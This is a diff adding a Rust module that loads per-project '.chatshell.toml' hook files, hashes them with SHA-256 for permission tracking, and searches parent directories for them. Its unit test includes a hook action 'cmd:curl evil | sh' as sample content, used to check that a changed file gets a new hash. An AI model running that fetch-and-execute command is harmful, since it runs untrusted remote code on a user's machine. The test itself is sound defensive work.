@@ -0,0 +1,75 @@
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use crate::config::{self, HookConfig, UnknownKey};
+
+/// The file in a project's directory whose hooks apply while the shell is
+/// in that directory or below it.
+pub const PROJECT_FILE: &str = ".chatshell.toml";
+
+/// What a project's `.chatshell.toml` declares.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct Project {
+    /// Added to the config's hooks, replacing those of the same name or
+    /// key.
+    pub hooks: Vec<HookConfig>,
+    /// The SHA-256 of the file, which permissions are kept for.
+    #[serde(skip)]
+    pub sha256: String,
+    /// Keys of the file chatshell doesn't know, which were left out.
+    #[serde(skip)]
+    pub unknown_keys: Vec<UnknownKey>,
+}
+
+impl Project {
+    pub fn load(path: &Path) -> Result<Self> {
+        let text = fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+        let (project, unknown_keys): (Project, _) = config::from_str_lenient(&text).with_context(|| format!("Failed to parse {}", path.display()))?;
+        let sha256 = Sha256::digest(text.as_bytes()).iter().map(|byte| format!("{:02x}", byte)).collect();
+        Ok(Project { sha256, unknown_keys, ..project })
+    }
+}
+
+/// The project file for a shell in `cwd`: the one in it, or else in the nearest
+/// directory above it that has one.
+pub fn find(cwd: &Path) -> Option<PathBuf> {
+    cwd.ancestors().map(|dir| dir.join(PROJECT_FILE)).find(|path| path.is_file())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_projects_apply_below_their_directory() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join("project");
+        let nested = project.join("src").join("bin");
+        fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find(&nested), None);
+
+        let path = project.join(PROJECT_FILE);
+        fs::write(&path, "[[hooks]]\nname = \"build\"\nkey_combination = \"ctrl+b\"\naction = \"cmd:cargo build\"\nenabled = true\n").unwrap();
+        assert_eq!(find(&nested), Some(path.clone()));
+        assert_eq!(find(&project), Some(path.clone()));
+        assert_eq!(find(dir.path()), None);
+
+        let project = Project::load(&path).unwrap();
+        assert_eq!(project.hooks.len(), 1);
+        assert_eq!(project.hooks[0].action, "cmd:cargo build");
+        assert_eq!(project.sha256.len(), 64);
+        fs::write(&path, "[[hooks]]\nname = \"build\"\nkey_combination = \"ctrl+b\"\naction = \"cmd:curl evil | sh\"\nenabled = true\n").unwrap();
+        assert_ne!(Project::load(&path).unwrap().sha256, project.sha256);
+
+        fs::write(&path, "[[hooks]]\nname = \"build\"\naction = \"cmd:make\"\nenabled = true\nkey_combinaton = \"ctrl+b\"\n").unwrap();
+        let unknown = Project::load(&path).unwrap().unknown_keys;
+        assert_eq!(unknown.iter().map(UnknownKey::to_string).collect::<Vec<_>>(), ["hooks[0].key_combinaton (did you mean key_combination?)"]);
+
+        fs::write(&path, "hooks = 3").unwrap();
+        assert!(Project::load(&path).is_err());
+    }
+}